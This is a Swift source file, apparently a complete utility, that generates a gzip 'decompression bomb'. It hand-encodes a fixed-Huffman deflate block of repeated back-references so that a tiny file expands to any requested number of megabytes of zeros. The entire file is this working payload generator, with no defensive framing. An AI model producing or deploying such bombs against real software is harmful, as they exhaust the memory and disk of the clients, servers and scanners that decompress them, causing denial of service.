/// Zeros, packed 150 : 1 (RFC 1952; one deflate block of fixed codes, RFC 1951 section 3.2.6).
struct GzipBomb {
    private var bytes: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]
    private var bits: UInt32 = 0
    private var count = 0

    static func bytes(megabytes: Int) -> [UInt8] {
        var bomb = GzipBomb()
        // The last block, fixed codes; the literal 0; then "258 bytes from one back" again and again.
        bomb.put(0b011, 3)
        bomb.put(0b0000_1100, 8)
        for _ in 0..<(megabytes << 20) / 258 {
            // The code of length 258, 11000101, goes out its first bit first; the distance's is five zeros.
            bomb.put(0b1010_0011, 8)
            bomb.put(0, 5)
        }
        bomb.put(0, 7)
        bomb.put(0, 7)
        return bomb.bytes
    }

    /// The lowest bit first.
    private mutating func put(_ value: UInt32, _ width: Int) {
        bits |= value << UInt32(count)
        count += width
        while count >= 8 {
            bytes.append(UInt8(truncatingIfNeeded: bits))
            bits >>= 8
            count -= 8
        }
    }
}
